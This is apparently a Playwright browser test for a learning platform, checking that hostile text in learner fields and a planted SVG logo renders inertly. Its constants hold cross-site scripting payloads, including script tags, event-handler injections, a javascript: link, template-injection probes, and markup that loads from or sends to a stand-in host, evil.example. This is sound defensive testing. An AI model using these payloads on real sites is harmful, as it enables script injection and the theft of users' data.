"""Abuse case 26 (quality.md §3.3): hostile words in every field are words, in a real browser."""

import hashlib
import re

import pytest
from playwright.sync_api import Page, Request
from sqlalchemy import select

import clock
from commands.demonstration import PASSWORD as STAFF_PASSWORD
from commands.demonstration import REFERENCE_COURSE
from extensions import db
from models import Certificate, LearnerQuestion, Provider, ProviderImage
from services import (
    attempts,
    certification,
    evaluations,
    learner_questions,
    provider,
    provider_look,
)
from services.enrollments import Study
from services.learner_questions import Written
from services.progress import get_progress
from tests.browser.answers import answer_rightly
from tests.browser.conftest import Center
from tests.factories import PASSWORD, complete_items, make_enrollment, make_license, make_person

pytestmark = pytest.mark.browser
HOME = f"/learn/{REFERENCE_COURSE}"
TWO_FRAMES = "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
MALLORY = "mallory@example.org"
NAME = "Mallory <script>window.hacked=1</script><img src=//evil.example/n onerror=hacked=1>"
NUMBER = '"><svg onload=hacked=1>'
HOSTILE = "\n\n".join(
    [
        "<script>window.hacked=1</script>",
        "<svg onload=hacked=1><style>*{display:none}</style></svg>",
        '<div data-hx-get="//evil.example/x" data-hx-trigger="load">x</div>',
        '<a href="javascript:hacked=1">link</a>',
        '<form action="//evil.example/"><input name="csrf_token" id="status"></form>',
        '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
        "{{ 7 * 191 }} {% debug %}",
        '" autofocus onfocus="hacked=1',
    ]
)

HOSTILE_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="90" height="90"
onload="window.hacked=1"><script>window.hacked=1; fetch("//evil.example/s")</script>
<style>@import url("https://evil.example/c.css"); path { fill: url("https://evil.example/p") }
</style><image href="https://evil.example/x.png" width="9" height="9"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"
src="https://evil.example/f"/></foreignObject><path d="M0 0h9v9z"/></svg>"""


def test_case_26_hostile_words_stay_words(center: Center, new_context) -> None:  # type: ignore[no-untyped-def]
    number, code, thread = _prepare(center)
    seen = {
        MALLORY: [
            *("/learn", HOME, f"{HOME}/questions", "/account", "/account/licenses"),
            *("/certificates", f"/certificates/{number}", "/account/data"),
        ],
        "bob@example.org": ["/instructor", f"/instructor/questions/{thread}"],
        "carol@example.org": [
            f"/admin/enrollments?course={REFERENCE_COURSE}",
            "/admin/certificates",
            f"/admin/certificates/{number}",
        ],
        "": [f"/v/{code}"],
    }
    for email, paths in seen.items():
        page = new_context().new_page()
        trouble = _watch(page, center)
        if email:
            _log_in(page, email, PASSWORD if email == MALLORY else STAFF_PASSWORD)
        for path in paths:
            assert page.goto(path).status == 200, path  # type: ignore[union-attr]
            page.evaluate(TWO_FRAMES)
            assert page.evaluate("typeof window.hacked") == "undefined", path
            assert page.locator("iframe[srcdoc], svg[onload], img[onerror]").count() == 0, path
            assert "1337" not in page.locator("main").inner_text(), path
        assert not trouble, (email, trouble)
    thread_page = new_context().new_page()
    _log_in(thread_page, "bob@example.org", STAFF_PASSWORD)
    thread_page.goto(f"/instructor/questions/{thread}")
    assert "<script>window.hacked=1</script>" in thread_page.locator("main").inner_text()


def test_a_hostile_logo_does_nothing_even_if_it_were_kept(center: Center, new_context) -> None:  # type: ignore[no-untyped-def]
    """Put into the database past the checks, which refuse it: on pages, and opened by itself."""
    before = _plant_logo(center)
    page = new_context().new_page()
    trouble: list[str] = []
    page.on("request", lambda request: trouble.append(request.url))
    page.on("requestfailed", lambda request: _take_back(request, trouble))
    page.on("dialog", lambda dialog: (trouble.append("a dialog"), dialog.dismiss()))
    try:
        _log_in(page, "carol@example.org", STAFF_PASSWORD)
        for path in ("", "/images/logo", "/images/sheet"):
            page.goto(f"/admin/provider/look{path}", wait_until="networkidle")
            assert page.evaluate("typeof window.hacked") == "undefined", path
        page.goto("/admin/provider/look")
        shown = page.locator(".look-image img").first
        assert shown.evaluate("image => image.complete && image.naturalWidth > 0")
        assert [url for url in trouble if not url.startswith((center.url, "data:"))] == []
    finally:
        _set_look(center, before)


def _take_back(request: Request, trouble: list[str]) -> None:
    """A request that the content policy refused never left the browser."""
    if request.failure == "csp":
        trouble.remove(request.url)


def _plant_logo(center: Center) -> dict[str, str]:
    """Make a hostile drawing the provider's logo; returns the look as it was."""
    content = HOSTILE_LOGO.encode()
    sha256 = hashlib.sha256(content).hexdigest()
    with center.app.app_context():
        before = provider_look.present_look()
        db.session.add(
            ProviderImage(
                sha256=sha256, media_type="image/svg+xml", content=content, added_at=clock.now()
            )
        )
        db.session.commit()
    _set_look(center, {**before, "logo": sha256})
    return before


def _set_look(center: Center, look: dict[str, str]) -> None:
    with center.app.app_context():
        row = db.session.get_one(Provider, 1)
        row.facts = {**row.facts, "look": look}
        db.session.commit()
        db.session.remove()
        provider.forget()


def _prepare(center: Center) -> tuple[str, str, int]:
    """Mallory, certified, with hostile words wherever a learner can leave some."""
    with center.app.app_context():
        person = make_person(MALLORY, NAME)
        make_license(person, NUMBER)
        study = make_enrollment(person, REFERENCE_COURSE)
        db.session.commit()
        learner_questions.ask(
            study, Written(person.id, HOSTILE, "mallory"), "", center.url, clock.now()
        )
        _finish(study)
        issued = certification.issue_certificate(study, NAME, center.url, clock.now())
        db.session.commit()
        thread = db.session.scalars(
            select(LearnerQuestion.id).where(LearnerQuestion.enrollment_id == study.enrollment.id)
        ).one()
        code = db.session.get_one(Certificate, issued.id).verification_code
        number = issued.number
        db.session.remove()
    return number, code, thread


def _finish(study: Study) -> None:
    for unit in study.outline.units:
        complete_items(study, unit=unit.number)
        db.session.commit()
        attempt = attempts.open_attempt(study, unit.number, clock.now())
        answer_rightly(attempt.id)
        own = attempts.get_attempt_for(study.enrollment.person_id, attempt.id)
        attempts.submit_attempt(own, clock.now())
        db.session.commit()
    progress = get_progress(study.enrollment.id)
    evaluations.submit_evaluation(study, progress, {"comments": HOSTILE}, clock.now())
    db.session.commit()


def _watch(page: Page, center: Center) -> list[str]:
    """What should not happen: dialogs, requests to others, refusals by the content policy."""
    trouble: list[str] = []
    page.on("dialog", lambda dialog: (trouble.append("a dialog"), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            None if request.url.startswith((center.url, "data:")) else trouble.append(request.url)
        ),
    )
    page.on(
        "console",
        lambda line: (
            trouble.append(line.text)
            if re.search("Content Security Policy|Refused to", line.text)
            else None
        ),
    )
    return trouble


def _log_in(page: Page, email: str, password: str) -> None:
    page.goto("/login")
    page.get_by_label("E-mail address").fill(email)
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("button", name="Log out").wait_for()
